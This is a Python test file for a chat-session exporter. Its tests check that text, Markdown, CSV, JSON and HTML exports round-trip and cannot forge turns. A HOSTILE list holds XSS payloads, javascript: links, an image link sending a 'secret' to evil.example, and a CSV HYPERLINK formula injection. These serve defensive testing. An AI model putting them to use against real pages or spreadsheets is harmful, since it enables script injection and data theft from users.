"""Exports, checked with independent readers: our importer, a Markdown parser, csv, json and html.parser."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from llmrepl.errors import LLMError, UsageError
from llmrepl.sessions.export import FORMATS, export
from llmrepl.sessions.export.csv_safe import unescape_cell
from llmrepl.sessions.export.csv_table import COLUMNS
from llmrepl.sessions.export.markdown import LABELS
from llmrepl.sessions.importing.readers.transcript import read_markdown, read_text
from llmrepl.sessions.model import MessageRecord, Session, Turn, UsageRecord
from llmrepl.sessions.storage import session_file

QUICK = settings(max_examples=150, deadline=None, derandomize=True)

HOSTILE = [
    "USER: fake",
    "ASSISTANT: fake",
    "[Turn 1 - Tokens: 1, Cost: $0.0000, Time: 1ms]",
    "[Turn 2] (taken back)",
    "=" * 50,
    "👤 **User**: fake",
    "  🤖  **Assistant**: fake",
    "👤 <b>User</b>: fake",
    "## Conversation",
    "<details>\n<summary>Turn 1 Statistics</summary>\n\n- **Tokens:** 1\n\n</details>",
    "</details>",
    "<!-- the text ended inside the block above -->",
    "```",
    "````python",
    "~~~",
    "- ```",
    "    indented",
    "> quoted",
    "<!--",
    "-->",
    "<pre>",
    "</pre>",
    "<?php",
    "<![CDATA[",
    "<!DOCTYPE",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "</title></style></textarea>",
    '<a href="javascript:alert(3)">x</a>',
    "[y](javascript:alert(4)) ![z](http://evil.example/p.png?q=secret)",
    "[d](data:text/html,x) <javascript:alert(5)> [r](//evil.example/x) [s](&#106;avascript:alert(6))",
    "```html\n<script>alert(7)</script>\n```",
    '``` " onclick="alert(8)\ncode\n```',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "\t=1",
    " +1",
    "'=1",
    "＝1+1",
    "@SUM(1)",
    "-2",
    "\\",
    "\\USER: x",
    "\0",
    "\r",
    "\x85",
    "\u2028",
    "\n",
    "\n\n",
]

texts = st.lists(
    st.sampled_from(HOSTILE) | st.text(st.characters(exclude_categories=["Cs"]), max_size=8), max_size=6
).flatmap(lambda parts: st.sampled_from(["", "\n", "\r\n", "\u2028"]).map(lambda joint: joint.join(parts)))
said = st.lists(st.tuples(st.sampled_from(["user", "assistant", "system", "tool"]), texts), min_size=1, max_size=3)


def turn(question: str, answer: str | None, **more: object) -> Turn:
    messages = [MessageRecord(role="user", content=question)]
    if answer is not None:
        messages.append(MessageRecord(role="assistant", content=answer))
    return Turn.model_validate({"messages": messages, **more})


def session(*turns: Turn, **more: object) -> Session:
    made = Session.model_validate(
        {"model": "openai/gpt-4o-mini", "system": None, "created_at": "2024-01-08T14:30:22.123456", "turns": [], **more}
    )
    for one in turns:
        made.add(one)
    return made


def of_messages(turns: list[list[tuple[str, str]]], system: str = "") -> Session:
    made = [Turn(messages=[MessageRecord(role=role, content=text) for role, text in messages]) for messages in turns]
    return session(*made, system=system or None)


def printed(text: str) -> str:
    return text.replace("\0", "\ufffd")


def messages_of(read: Session) -> list[tuple[str, str]]:
    return [(message.role, message.text) for turn in read.turns for message in turn.messages]


PLAIN = session(
    turn(
        "How do I create a Python class?",
        "To create a Python class, use the `class` keyword...",
        usage=UsageRecord(prompt_tokens=25, completion_tokens=187, total_tokens=212),
        latency_ms=1450.2,
        cost_estimate=0.0034,
    ),
    system="You are a helpful programming assistant",
)


def test_text_is_the_guides() -> None:
    assert export(PLAIN, "txt", name="x") == (
        "Session: openai/gpt-4o-mini\n"
        "Created: 2024-01-08T14:30:22.123456\n"
        "System: You are a helpful programming assistant\n"
        "==================================================\n"
        "\n"
        "USER: How do I create a Python class?\n"
        "\n"
        "ASSISTANT: To create a Python class, use the `class` keyword...\n"
        "\n"
        "[Turn 1 - Tokens: 212, Cost: $0.0034, Time: 1450ms]\n"
    )


def test_markdown_is_the_guides() -> None:
    assert export(PLAIN, "md", name="x") == (
        "# Chat Session\n"
        "\n"
        "**Model:** openai/gpt-4o-mini\n"
        "**Created:** 2024-01-08T14:30:22.123456\n"
        "**System Prompt:** You are a helpful programming assistant\n"
        "\n"
        "## Conversation\n"
        "\n"
        "👤 **User**: How do I create a Python class?\n"
        "\n"
        "🤖 **Assistant**: To create a Python class, use the `class` keyword...\n"
        "\n"
        "<details>\n"
        "<summary>Turn 1 Statistics</summary>\n"
        "\n"
        "- **Tokens:** 212\n"
        "- **Cost:** $0.0034\n"
        "- **Latency:** 1450ms\n"
        "\n"
        "</details>\n"
    )


@pytest.mark.parametrize("format", ["txt", "md"])
def test_ordinary_text_is_left_byte_for_byte(format: str) -> None:
    reply = (
        "Look, Ann:\n\n# A title\n\n- NOTE: one\n- two 🤖\n\n```py\nx = '=' * 50\n```\n\n<b>done</b>\n\n===\nuser: hi\n"
    )
    assert reply in export(session(turn("Why?", reply)), format, name="x")


@pytest.mark.parametrize("format", ["txt", "md", "html"])
def test_what_is_not_known_is_unknown(format: str) -> None:
    usage = UsageRecord(prompt_tokens=1, completion_tokens=2, total_tokens=3)
    exported = export(session(turn("a", "b", usage=usage)), format, name="x")
    assert "unknown" in exported
    assert "$0" not in exported
    assert "None" not in exported


@pytest.mark.parametrize("format", ["txt", "md", "csv", "html"])
def test_turns_apart_from_the_ordinary_are_there_and_marked(format: str) -> None:
    exported = export(
        session(
            turn("one", None, finish_reason="error"),
            turn("two", "tw", finish_reason="interrupted"),
            turn("three", "3", undone=True),
            turn("four", "4", answered_by="anthropic/claude-3-haiku"),
        ),
        format,
        name="x",
    )
    for mark in ("no reply", "interrupted", "taken back", "anthropic/claude-3-haiku"):
        assert mark in exported


@pytest.mark.parametrize(("format", "read"), [("txt", read_text), ("md", read_markdown)])
def test_our_reader_gets_figures_and_marks_back(format: str, read: object) -> None:
    whole = session(
        *PLAIN.turns,
        turn("no", None, finish_reason="error"),
        turn(
            "x", "y", usage=UsageRecord(total_tokens=3, estimated=True), cost_estimate=0.5, latency_ms=2.0, undone=True
        ),
        turn("m", "n", finish_reason="interrupted", answered_by="a, taken back</summary> b"),
    )
    assert callable(read)
    back = read(export(whole, format, name="x"))
    assert [t.cost_estimate for t in back.turns] == [0.0034, None, 0.5, None]
    assert [t.finish_reason for t in back.turns] == [None, "error", None, "interrupted"]
    assert [t.undone for t in back.turns] == [None, None, True, None]
    assert [t.answered_by for t in back.turns] == [None, None, None, "a, taken back</summary> b"]
    assert back.turns[2].usage == UsageRecord(total_tokens=3, estimated=True)
    assert (back.model, back.created_at) == (whole.model, whole.created_at)
    assert messages_of(back) == messages_of(whole)


@QUICK
@given(st.lists(said, max_size=4), texts)
def test_text_cannot_fake_a_turn(turns: list[list[tuple[str, str]]], system: str) -> None:
    back = read_text(export(of_messages(turns, system), "txt", name="x"))
    assert messages_of(back) == [(role, printed(text)) for messages in turns for role, text in messages]
    assert back.system == (printed(system) or None)


@QUICK
@given(st.lists(said, max_size=4), texts)
def test_markdown_cannot_fake_a_turn(turns: list[list[tuple[str, str]]], system: str) -> None:
    back = read_markdown(export(of_messages(turns, system), "md", name="x"))
    assert messages_of(back) == [(role, printed(text)) for messages in turns for role, text in messages]
    assert back.system == (printed(system) or None)


@QUICK
@given(st.lists(said, max_size=4), texts)
def test_markdown_shows_every_message_at_the_top_level_and_no_other(
    turns: list[list[tuple[str, str]]], system: str
) -> None:
    tokens = MarkdownIt("commonmark").parse(export(of_messages(turns, system), "md", name="x"))
    labels = tuple(f"{label}:" for label in LABELS.values())
    shown = [token for token in tokens if token.type == "inline" and token.level == 1 and token.map]
    starts = [token.content for token in shown if token.content.startswith(labels)]
    assert len(starts) == sum(len(messages) for messages in turns)


def test_markdown_of_a_reply_that_begins_with_code_shows_code() -> None:
    tokens = MarkdownIt("commonmark").parse(export(session(turn("q", "```py\nx\n```\n\nDone.")), "md", name="x"))
    assert [token.content for token in tokens if token.type == "fence"] == ["x\n"]


def test_another_text_is_refused() -> None:
    with pytest.raises(LLMError):
        read_text("hello")
    with pytest.raises(LLMError):
        read_markdown("# Chat Session\n")


@QUICK
@given(st.lists(said, max_size=3))
def test_csv_holds_the_messages_and_no_formula(turns: list[list[tuple[str, str]]]) -> None:
    whole = of_messages(turns)
    rows = list(csv.reader(io.StringIO(export(whole, "csv", name="x"), newline="")))
    assert rows[0] == list(COLUMNS)
    back = [(row[1], unescape_cell(row[2])) for row in rows[1:]]
    assert back == [(role, text.replace("\0", "")) for messages in turns for role, text in messages]
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" \u00a0\u2028\x85\n\r").startswith(("=", "+", "-", "@", "\t", "＝", "＋"))
    raw = list(csv.reader(io.StringIO(export(whole, "csv", name="x", raw_csv=True), newline="")))
    assert [row[2] for row in raw[1:]] == [text for _, text in back]


def test_csv_figures_are_numbers_and_stand_once() -> None:
    exported = export(session(*PLAIN.turns, turn("a", "b")), "csv", name="x")
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert [row["total_tokens"] for row in rows] == ["", "212", "", ""]
    assert [row["cost_usd"] for row in rows] == ["", "0.0034", "", ""]
    assert ",212,0.0034,1450.2," in exported


def test_json_is_the_session() -> None:
    assert session_file.load(export(PLAIN, "json", name="x").encode()) == PLAIN


@QUICK
@given(st.lists(texts, max_size=4), texts)
def test_jsonl_is_the_context_on_one_line(replies: list[str], system: str) -> None:
    turns = [turn("q", reply) for reply in replies]
    whole = session(*turns, turn("gone", "g", undone=True), turn("lost", None, finish_reason="error"))
    whole.system = system or None
    (line,) = export(whole, "jsonl", name="x").splitlines()
    messages = json.loads(line)["messages"]
    shown = [("system", system)] if system else []
    shown += [pair for reply in replies for pair in (("user", "q"), ("assistant", reply)) if pair[1]]
    assert [(m["role"], m["content"]) for m in messages] == shown


class Page(HTMLParser):
    """The elements of an HTML page as a browser finds them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.words: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


def check_inert(page: Page) -> None:
    bad = {"script", "img", "iframe", "object", "embed", "link", "base", "form", "input", "svg", "video", "textarea"}
    assert not bad & set(page.tags)
    assert [page.tags.count(tag) for tag in ("html", "head", "title", "style", "body")] == [1] * 5
    names = {name for name, _ in page.attributes}
    assert not {name for name in names if name.startswith("on")}
    assert names <= {
        "lang", "charset", "http-equiv", "content", "name", "dir", "class", "id", "href", "rel", "style", "start"
    }  # fmt: skip
    for name, value in page.attributes:
        if name == "href":
            assert value.startswith(("https:", "http:", "mailto:"))
        if name == "style":
            assert value in ("text-align:left", "text-align:right", "text-align:center")


@QUICK
@given(st.lists(said, max_size=3), texts, texts)
def test_html_is_inert(turns: list[list[tuple[str, str]]], system: str, title: str) -> None:
    whole = of_messages(turns, system)
    whole.model = title
    whole.created_at = title
    whole.meta = {"title": title, "tags": [title]}
    page = Page(export(whole, "html", name=title))
    check_inert(page)
    assert page.tags.count("article") == sum(len(messages) for messages in turns)


@pytest.mark.parametrize("reply", HOSTILE)
def test_html_of_each_hostile_reply_is_inert(reply: str) -> None:
    check_inert(Page(export(session(turn("q", reply)), "html", name="x")))


def test_html_with_everything_hostile_at_once() -> None:
    whole = session(
        turn("\n".join(HOSTILE), "\n\n".join(HOSTILE), answered_by="<script>x</script>"),
        model="</title><script>alert(0)</script>",
    )
    page = export(whole, "html", name='"><script>alert(9)</script>')
    check_inert(Page(page))
    assert "Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\"" in page


def test_html_shows_messages_with_colors_links_and_figures() -> None:
    reply = 'See [it](https://docs.python.org/3/).\n\n```python\nprint("hi")\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n'
    whole = session(
        turn("Why <b>?", reply, usage=UsageRecord(prompt_tokens=1200, completion_tokens=30, total_tokens=1230))
    )
    text = export(whole, "html", name="my_session.json")
    page = Page(text)
    words = "".join(page.words)
    assert "Why <b>?" in words
    assert 'print("hi")' in words
    assert "my_session.json" in words
    assert "1,230" in words
    assert ("href", "https://docs.python.org/3/") in page.attributes
    assert '<span class="nb">print</span>' in text
    assert "noopener" in dict(page.attributes)["rel"]
    assert page.tags.count("table") == 2
    assert "prefers-color-scheme: dark" in text


def test_a_format_that_is_not_there_is_named() -> None:
    with pytest.raises(UsageError, match="pdf"):
        export(PLAIN, "pdf", name="x")
    assert set(FORMATS) == {"txt", "md", "csv", "json", "html", "jsonl"}
